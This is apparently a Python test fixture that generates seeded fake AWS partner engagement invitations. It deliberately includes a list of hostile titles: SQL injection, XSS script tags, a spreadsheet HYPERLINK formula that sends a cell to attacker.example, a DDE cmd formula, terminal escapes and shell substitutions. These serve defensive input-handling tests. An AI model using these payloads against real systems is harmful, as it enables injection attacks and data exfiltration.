"""Made-up invitations: varied, awkward, the same for the same seed, and valid by the service model."""

from __future__ import annotations

import random
from datetime import UTC, date, datetime, timedelta
from typing import Any

from tests.servers.service_model import enum, moment

Raw = dict[str, Any]

# Text that other people wrote. Wherever it goes, it must stay text.
HOSTILE_TITLES = (
    'The "Blue\'Print" project; DROP TABLE opportunities; --',
    "First line\nsecond line\r\n\tthird, indented",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://attacker.example/?"&A1, "Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 and \u202eright to left\u202c",
    "Rollout 🚀 für Größe ﬁnal №5",
    "データ基盤の移行プロジェクト 第二期",
    "مشروع ترحيل مركز البيانات",
    "%s %d {0} {{ deal }} ${HOME} `id` $(id) \\n \\u0000",
    "' OR Id != '' ORDER BY Amount DESC LIMIT 1 --",
    "   leading,  double  and trailing spaces   ",
    "Ｆｕｌｌ　ｗｉｄｔｈ ＡＷＳ migration",
    "N",
)
# Two titles that share their first 120 characters are two projects.
LONG_TITLE = ("Enterprise resource planning migration to the cloud, phase by phase, region by region, " * 3)[
    :252
]
WORK = (
    "Data lake",
    "ERP migration",
    "Contact center",
    "Landing zone",
    "Video platform",
    "IoT telemetry",
    "Disaster recovery",
    "Fraud detection",
    "Mainframe exit",
    "Generative AI assistant",
    "VDI rollout",
)
PLACES = ("EMEA", "North America", "LATAM", "APJ", "headquarters", "all plants", "wave 2", "pilot")
FIRST = (
    "Northwind",
    "Acme",
    "Müller & Söhne",
    "O'Brien",
    "Globex",
    "Initech",
    "Škoda-Plzeň",
    "東京精密",
    "Blue Harbor",
    "Vandelay",
    "Société Générique",
    "Café del Mar",
    "Стройматериалы",
    "Contoso",
)
SECOND = ("GmbH", "Ltd.", "Inc.", "S.A.", "Logistics", "Health", "Robotics", "Foods, Inc.", "株式会社", "plc")
GIVEN = ("Ana", "Jürgen", "Priya", "Wei", "Fatima", "Seán", "Noor", "Олег", "María José")
FAMILY = ("Silva", "O'Neill", "van der Berg", "Li", "Müller-Lüdenscheidt", "Haddad", "Núñez", "Null")
SENDERS = (("AWS", "111122223333"), ("AWS", "aws"), ("MingZ Test Account", "222222222222"))
REJECTIONS = (
    "Customer problem unclear",
    "Next steps unclear",
    "Unable to support",
    "Other",
    "Duplicate of partner referral",
)
AMOUNTS = ("10000", "10000.00", "25000", "0", "1250.50", "99999.9", "", "3", "740000.")
MATURITY = ("Evaluating", "Experimenting", "Established", "")
SEGMENTS = ("Enterprise", "Large", "Medium", "Small", "Micro")
BASE36 = "0123456789abcdefghijklmnopqrstuvwxyz"
EPOCH = datetime(2023, 1, 1, tzinfo=UTC)


def make_invitations(n: int, seed: int = 0, *, catalog: str = "Sandbox") -> list[Raw]:
    """``n`` raw answers of GetEngagementInvitation. About half are PENDING, a quarter are leads; customers
    recur, so that there are fewer of them than invitations; one title in twelve is hostile."""
    rng = random.Random(seed)
    customers = [_customer(rng, number) for number in range(max(1, n * 2 // 5))]
    return [_invitation(rng, index, rng.choice(customers), catalog) for index in range(n)]


def _identifier(rng: random.Random, prefix: str, length: int) -> str:
    return prefix + "".join(rng.choices(BASE36, k=length))


def _customer(rng: random.Random, number: int) -> Raw:
    name = f"{rng.choice(FIRST)} {rng.choice(SECOND)}"
    scheme = rng.choice(("https://www.", "http://", "www.", "https://", ""))
    return {
        "CompanyName": name if number % 3 else f"{name} {number}",
        "CountryCode": rng.choice(("US", "DE", "GB", "NO", *enum("CountryCode"))),
        "Industry": rng.choice(enum("Industry")),
        "WebsiteUrl": f"{scheme}customer-{number}.example.com",
    }


def _invitation(rng: random.Random, index: int, customer: Raw, catalog: str) -> Raw:
    identifier = _identifier(rng, "engi-", 13)
    status = rng.choices(("PENDING", "ACCEPTED", "REJECTED", "EXPIRED"), (50, 30, 10, 10))[0]
    payload_type, payload, title = _payload(rng, index, customer)
    sender, account = rng.choice(SENDERS)
    invited = EPOCH + timedelta(seconds=rng.randrange(3 * 365 * 86400))
    arn = f"arn:aws:partnercentral:us-east-1::catalog/{catalog}/engagement-invitation/{identifier}"
    return {
        "Arn": arn,
        "Catalog": catalog,
        "EngagementDescription": rng.choice(("Lead generated from recent campaign activities", None)),
        "EngagementId": _identifier(rng, "eng-", 14),
        "EngagementTitle": title[:40],
        "ExistingMembers": _members(rng, sender),
        "ExpirationDate": _expiration(rng, invited),
        "Id": identifier,
        "InvitationDate": moment(invited, rng.randrange(10**9)),
        "InvitationMessage": rng.choice(("Would you like to collaborate?", "Please review.\n\nThanks", None)),
        "Payload": {payload_type: payload},
        "PayloadType": payload_type,
        "Receiver": {"Account": {"Alias": rng.choice(("Test", None)), "AwsAccountId": "111111111111"}},
        "RejectionReason": rng.choice(REJECTIONS) if status == "REJECTED" else None,
        "SenderAwsAccountId": account,
        "SenderCompanyName": sender,
        "Status": status,
    }


def _members(rng: random.Random, sender: str) -> list[Raw]:
    return [{"CompanyName": sender, "WebsiteUrl": rng.choice(("www.aws.com", "null", None))}]


def _expiration(rng: random.Random, invited: datetime) -> str | None:
    days = rng.choice((15, 15, 15, 14, 5 * 365, None))
    return None if days is None else moment(invited + timedelta(days=days), rng.randrange(10**9))


def _payload(rng: random.Random, index: int, customer: Raw) -> tuple[str, Raw, str]:
    """Type and content of the payload, and the engagement's title before it is cut."""
    if rng.random() < 0.25:
        return "LeadInvitation", _lead(rng, customer), "New Business Deal - 4974 Initiative"
    title = _title(rng, index, customer)
    return "OpportunityInvitation", _opportunity(rng, customer, title), title


def _lead(rng: random.Random, customer: Raw) -> Raw:
    maybe = {name: rng.choice((value, value, None)) for name, value in customer.items()}
    lead: Raw = {
        "Customer": {
            **maybe,
            "CompanyName": customer["CompanyName"],
            "AwsMaturity": rng.choice(MATURITY),
            "MarketSegment": rng.choice(SEGMENTS),
        },
        "Interaction": {
            "ContactBusinessTitle": rng.choice(("CTO", "Corporate Program Agent", "IT-Leiterin")),
            "SourceId": _identifier(rng, "", 8).upper(),
            "SourceName": rng.choice(("Partner Referral Program - 2025", "re:Invent", None)),
            "SourceType": rng.choice(("Campaign", "Event", None)),
            "Usecase": rng.choice(("Database", "Migration", "AI/ML", None)),
        },
    }
    if rng.random() < 0.5:  # a member that the model does not know was recorded live
        lead["Insights"] = {"EngagementScore": rng.choice(("High", "Medium", "Low"))}
    return lead


def _title(rng: random.Random, index: int, customer: Raw) -> str:
    chance = rng.random()
    if chance < 1 / 12:
        return HOSTILE_TITLES[index % len(HOSTILE_TITLES)]
    if chance < 1 / 9:
        return f"{LONG_TITLE}{index % 1000:03d}"
    return f"{rng.choice(WORK)} for {customer['CompanyName']}, {rng.choice(PLACES)}"


def _opportunity(rng: random.Random, customer: Raw, title: str) -> Raw:
    completion = date(2024, 1, 1) + timedelta(days=rng.randrange(6 * 365))
    contacts = [_contact(rng) for _ in range(rng.randint(0, 3))]
    return {
        "Customer": dict(customer),
        "Project": {
            "BusinessProblem": f"{title[:60]}: today's platform is too slow, too costly, and nearly full.",
            "ExpectedCustomerSpend": [_spend(rng) for _ in range(rng.choice((0, 1, 1, 1, 1, 2, 3, 10)))],
            "TargetCompletionDate": completion.isoformat(),
            "Title": title,
        },
        "ReceiverResponsibilities": rng.sample(enum("ReceiverResponsibility"), rng.randint(0, 3)),
        "SenderContacts": contacts or None,
    }


def _spend(rng: random.Random) -> Raw:
    common = ("USD", "USD", "USD", "EUR", "GBP")
    amount = str(rng.randrange(10**30, 10**31)) if rng.random() < 0.01 else rng.choice(AMOUNTS)
    estimate = f"https://calculator.aws/#/estimate?id={rng.getrandbits(160):040x}"
    return {
        "Amount": amount,
        "CurrencyCode": rng.choice(enum("CurrencyCode")) if rng.random() < 0.05 else rng.choice(common),
        "EstimationUrl": rng.choice((None, None, estimate)),
        "Frequency": "Monthly",
        "TargetCompany": rng.choice(("AWS", "AWS", "Partner Inc.")),
    }


def _contact(rng: random.Random) -> Raw:
    first, last = rng.choice(GIVEN), rng.choice(FAMILY)
    return {
        "BusinessTitle": rng.choice(("PDM", "Account Manager", None)),
        "Email": f"person.{rng.randrange(10**4)}@example.com",
        "FirstName": rng.choice((first, None)),
        "LastName": rng.choice((last, None)),
        "Phone": rng.choice((f"+1555{rng.randrange(10**7):07d}", None)),
    }
